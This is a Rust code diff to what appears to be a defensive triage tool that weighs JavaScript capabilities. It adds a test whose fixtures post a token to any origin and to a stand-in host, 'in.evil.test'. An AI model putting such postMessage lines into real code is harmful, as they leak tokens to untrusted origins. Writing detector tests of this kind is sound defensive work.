@@ -1,8 +1,6 @@
 //! The facts in one line each, the most telling first. Facts, not a verdict: there is no score.
 
-use pinfold_triage::{
-    Capability, Change, Diff, Fact, Findings, Group, Host, Loss, Novelty, SaidVersion, Together,
-};
+use pinfold_triage::{Capability, Change, Diff, Fact, Findings, Host, Loss, Novelty, SaidVersion, Together};
 
 use super::super::words::counted;
 use super::Place;
@@ -224,7 +222,7 @@ fn of_host(host: &Host, shown: &Shown) -> Point {
 fn of_fact(fact: &Fact, shown: &Shown) -> Point {
     let first = fact.sites.first();
     let means = first.and_then(|site| site.means.as_deref());
-    let is_heavy = fact.novelty() == Novelty::New && fact.capability.group() != Group::Environment;
+    let is_heavy = fact.novelty() == Novelty::New && fact.capability.has_weight();
     Point {
         weight: if is_heavy { Weight::Heavy } else { Weight::Plain },
         text: fact.capability.text().to_owned(),
@@ -302,6 +300,23 @@ mod tests {
         assert_eq!(points[0].place.as_ref().and_then(|place| place.link.as_deref()), Some("#n3"));
         assert_eq!(points[1].text, "sends or loads with fetch, where it names a new host:");
         assert!(points[..2].iter().all(|point| point.weight == Weight::Heavy));
+    }
+
+    #[test]
+    fn a_message_is_heavy_where_anybody_or_a_new_origin_gets_it() {
+        let weights = |posts: &str| {
+            let new = format!("show(1); {posts};");
+            let findings = compare(Some(b"show(1);"), new.as_bytes(), Limits::default(), &|_| None);
+            let difference = Difference::of(&findings);
+            let points = points(&findings, &difference.shown(&findings.diff));
+            points.into_iter().map(|point| (point.weight, point.text)).collect::<Vec<_>>()
+        };
+        let own = "posts a message to the window that it runs in".to_owned();
+        assert_eq!(weights("window.postMessage(token, '*')"), [(Weight::Plain, own)]);
+        let any = "posts a message to any origin, or to one that cannot be read".to_owned();
+        assert_eq!(weights("top.postMessage(token, '*')"), [(Weight::Heavy, any)]);
+        let new = "posts a message to another origin, where it names a new host:".to_owned();
+        assert_eq!(weights("w.postMessage(token, 'https://in.evil.test')"), [(Weight::Heavy, new)]);
     }
 
     #[test]
